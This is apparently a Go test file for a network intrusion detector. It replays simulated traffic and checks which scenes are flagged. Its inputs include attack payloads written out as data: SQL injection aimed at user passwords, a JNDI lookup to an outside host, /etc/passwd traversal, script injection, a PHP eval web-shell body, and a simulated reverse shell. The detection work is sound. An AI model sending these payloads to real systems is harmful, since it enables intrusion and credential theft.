package detect

import (
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"time"

	"ampulla/annotator/packet"
	"ampulla/annotator/verdict"
)

const (
	browser  = "10.0.0.9:50000"
	web      = "10.0.0.5:80"
	httpTail = " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n"
)

func TestWebAttack(t *testing.T) {
	get := func(target string) func(w *wire) {
		return func(w *wire) {
			w.class = "http"
			w.connect(browser, web)
			w.say(browser, web, "GET "+target+httpTail)
			w.say(web, browser, "HTTP/1.1 200 OK\r\n\r\n")
		}
	}
	play(t, verdict.Outlier, func() Detector { return newWebAttack(Default().WebAttack) }, []scene{
		{name: "SQL", flagged: 1, play: get("/item?id=1%27+UNION%20SELECT+user%2C+password+FROM+users%23"),
			reason: "1 requests to 10.0.0.5 port 80 within 0.0 s carry code (SQL), where names and numbers are expected"},
		{name: "JNDI", flagged: 1, play: get("/?x=${jndi:ldap://203.0.113.7/a}")},
		{name: "path", flagged: 1, play: get("/cgi-bin/%2e%2e/%2e%2e/etc/passwd")},
		{name: "script", flagged: 1, play: get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")},
		{name: "a body in the next packet", flagged: 1, play: func(w *wire) {
			w.class = "http"
			w.connect(browser, web)
			w.say(browser, web, "POST /upload"+httpTail)
			w.say(browser, web, "cmd=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B")
		}},
		{name: "one hint is none", flagged: 0, play: get("/a/../../b.css")},
		{name: "two hints", flagged: 1, play: func(w *wire) {
			get("/a/../../b.css")(w)
			w.say(browser, web, "GET /c/../../d.css"+httpTail)
		}},
		{name: "a shop", flagged: 0, play: func(w *wire) {
			for i := range 50 {
				get(fmt.Sprintf("/select?order=%d&name=O%%27Neill+and+Sons&back=%%2Fcart%%3Fx%%3D1", i))(w)
			}
		}},
		{name: "what the server says", flagged: 0, play: func(w *wire) {
			get("/manual")(w)
			w.say(web, browser, "UNION SELECT is how <?php system('id') ?> ...")
		}},
		{name: "no web", flagged: 0, play: func(w *wire) {
			w.class = "mysql"
			w.connect("10.0.0.9:50000", "10.0.0.5:3306")
			w.say("10.0.0.9:50000", "10.0.0.5:3306", "\x20\x00\x00\x00\x03SELECT 1 UNION SELECT 2")
			w.say("10.0.0.9:50000", "10.0.0.5:3306", "\x20\x00\x00\x00\x03SELECT 1 UNION SELECT 2")
		}},
	})
}

func TestDecoded(t *testing.T) {
	for in, want := range map[string]string{
		"A%42c":   "abc",
		"a+b%20c": "a b c",
		"100%":    "100%",
		"%4":      "%4",
		"%zz%4G":  "%zz%4g",
		"%00%ff":  "\x00\xff",
	} {
		if got := string(decoded(nil, []byte(in))); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestWebShell(t *testing.T) {
	request := func(w *wire, what string) {
		w.connect(browser, web)
		w.say(browser, web, what+httpTail)
		w.say(web, browser, "HTTP/1.1 200 OK\r\n\r\n")
		w.hangUp(browser, web)
		w.wait(10 * time.Second)
	}
	play(t, verdict.Outlier, func() Detector { return newWebShell(Default().WebShell) }, []scene{
		{name: "posts to a script", flagged: -1, play: func(w *wire) {
			for range 9 {
				request(w, "POST /img/up.php?k=1")
			}
		}, reason: "9 requests within 80.0 s to 10.0.0.5 port 80, all of them POST to scripts such as up.php; people get pages as well"},
		{name: "at the threshold", flagged: 0, play: func(w *wire) {
			for range 8 {
				request(w, "POST /img/up.php")
			}
		}},
		{name: "somebody who looks as well", flagged: 0, play: func(w *wire) {
			request(w, "GET /")
			for range 50 {
				request(w, "POST /chat.php")
			}
		}},
		{name: "scripts in three languages", flagged: -1, play: func(w *wire) {
			for _, path := range []string{"/index.asp", "/admin/get.php", "/admin/get.php", "/login/process.jsp", "/news.asp"} {
				request(w, "GET "+path)
			}
		}, reason: "asked 10.0.0.5 port 80 for scripts in 3 languages (.php, .asp, .jsp) within 30.0 s; a site is written in one or two"},
		{name: "a site in PHP with an old part in ASP", flagged: 0, play: func(w *wire) {
			for range 20 {
				request(w, "GET /index.php")
				request(w, "GET /old/index.asp")
				request(w, "GET /cgi-bin/counter.cgi")
			}
		}},
		{name: "an interface for programs", flagged: 0, play: func(w *wire) {
			for range 50 {
				request(w, "POST /api/v1/events")
			}
		}},
	})
}

func TestDGA(t *testing.T) {
	const client, resolver = "10.0.0.9:5000", "10.0.0.1:53"
	ask := func(w *wire, name string, code byte) {
		w.udp(client, resolver, dnsMessage(name, 1, false, 0))
		answer := []byte(dnsMessage(name, 1, true, 0))
		answer[3] |= code
		w.udp(resolver, client, string(answer))
		w.wait(100 * time.Millisecond)
	}
	play(t, verdict.Outlier, func() Detector { return newDGA(Default().DGA) }, []scene{
		{name: "one generated domain after the other", flagged: 2, play: func(w *wire) {
			for i := range 21 {
				ask(w, noise(i, 12)+".xyz", nameError)
			}
			ask(w, "example.com", 0)
		}, reason: "10.0.0.9 asked for 21 domains that do not exist within 2.0 s, the latest " + noise(20, 12) + ".xyz; people mistype a few at most"},
		{name: "they exist", flagged: 0, play: func(w *wire) {
			for i := range 100 {
				ask(w, noise(i, 12)+".xyz", 0)
			}
		}},
		{name: "hosts of one domain", flagged: 0, play: func(w *wire) {
			for i := range 100 {
				ask(w, noise(i, 12)+".example.com", nameError)
			}
		}},
		{name: "bare names", flagged: 0, play: func(w *wire) {
			for i := range 100 {
				ask(w, noise(i, 12), nameError)
				ask(w, noise(i, 12)+".lan", nameError)
			}
		}},
	})
}

func TestRemoteControl(t *testing.T) {
	const victim, boss = "10.0.0.9:50000", "203.0.113.7:9001"
	program := make([]byte, 128)
	copy(program, "MZ")
	binary.LittleEndian.PutUint32(program[60:], 128)
	play(t, verdict.Outlier, func() Detector { return newRemoteControl(Default().RemoteControl) }, []scene{
		{name: "a shell that calls home", flagged: -1, play: func(w *wire) {
			w.class = verdict.UnknownClass
			w.connect(victim, boss)
			for _, line := range []string{"whoami\n", "pwd\n"} {
				w.wait(3 * time.Second)
				w.say(boss, victim, line)
				w.say(victim, boss, "something\n")
			}
		}, reason: "in no known protocol, with 203.0.113.7 port 9001: 2 typed lines of the called side that the caller answered"},
		{name: "what a shell prints", flagged: 1, play: func(w *wire) {
			w.class = verdict.UnknownClass
			w.connect(victim, boss)
			w.say(victim, boss, "Microsoft Windows [Version 10.0.19045]\r\n")
		}},
		{name: "a program with its length", flagged: 1, play: func(w *wire) {
			w.class = verdict.UnknownClass
			w.connect(victim, boss)
			w.say(boss, victim, "\x80\x00\x00\x00"+string(program))
		}},
		{name: "beats alone are suspicious", flagged: 0, play: func(w *wire) {
			w.class = verdict.UnknownClass
			w.connect(victim, boss)
			for range 20 {
				w.wait(10 * time.Second)
				w.say(victim, boss, "still here")
			}
			if w.last.Score < verdict.SuspiciousScore || !strings.Contains(w.last.Reason, "messages of 10 bytes, one every 10.0 s") {
				w.t.Errorf("%.2f %q", w.last.Score, w.last.Reason)
			}
		}},
		{name: "a program that talks without pauses", flagged: 0, play: func(w *wire) {
			w.class = verdict.UnknownClass
			w.connect(victim, boss)
			for range 50 {
				w.say(boss, victim, "PONG\n")
				w.say(victim, boss, "PING\n")
			}
		}},
		{name: "mail", flagged: 0, play: func(w *wire) {
			w.class = "smtp"
			w.connect(victim, "203.0.113.7:25")
			for range 5 {
				w.wait(time.Second)
				w.say("203.0.113.7:25", victim, "go ahead\n")
				w.say(victim, "203.0.113.7:25", "DATA\r\n")
			}
		}},
	})
}

func TestRequestFlood(t *testing.T) {
	ask := func(n int, gap time.Duration, connect bool) func(w *wire) {
		return func(w *wire) {
			w.class = "http"
			client := browser
			w.connect(client, web)
			for i := range n {
				if connect {
					client = at("10.0.0.9", 10000+i)
					w.connect(client, web)
				}
				w.say(client, web, "GET /?"+noise(i, 8)+httpTail)
				w.say(web, client, "HTTP/1.1 200 OK\r\n\r\n")
				w.wait(gap)
			}
		}
	}
	play(t, verdict.Flood, func() Detector { return newRequestFlood(Default().RequestFlood) }, []scene{
		{name: "over new connections", flagged: -1, play: ask(1000, 10*time.Millisecond, true)},
		{name: "over one", flagged: -1, play: ask(1000, 10*time.Millisecond, false)},
		{name: "a page of many pictures", flagged: 0, play: ask(200, time.Millisecond, true)},
		{name: "an application", flagged: 0, play: ask(1000, 50*time.Millisecond, false)},
	})
}

func TestStorm(t *testing.T) {
	everyone := packet.MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	broadcast := func(n int, gap time.Duration) func(w *wire) {
		return func(w *wire) {
			for range n {
				p := ip(packet.ProtoUDP, "10.0.0.9:137", "10.0.0.255:137", "name")
				p.DstMAC = everyone
				w.send(p)
				w.wait(gap)
			}
		}
	}
	play(t, verdict.Flood, func() Detector { return newStorm(Default().Storm) }, []scene{
		{name: "a loop", flagged: -1, play: broadcast(2000, 5*time.Millisecond)},
		{name: "a short burst", flagged: 0, play: broadcast(300, time.Millisecond)},
		{name: "chatter", flagged: 0, play: broadcast(1000, 50*time.Millisecond)},
	})
}

// TestCodes: each code is found wherever it is, and nothing is where one letter is
// missing.
func TestCodes(t *testing.T) {
	for _, c := range codes {
		for _, text := range []string{c.text, "GET /?q=" + c.text, "x" + c.text + "x"} {
			if _, weight := codeIn([]byte(text)); weight < c.weight {
				t.Errorf("%q: %v", text, weight)
			}
		}
		for i := range len(c.text) {
			text := c.text[:i] + c.text[i+1:]
			what, weight := codeIn([]byte(text))
			for _, other := range codes {
				if other.what == what && strings.Contains(text, other.text) {
					weight = 0 // there is another one in it
				}
			}
			if weight != 0 {
				t.Errorf("%q: %s", text, what)
			}
		}
	}
}
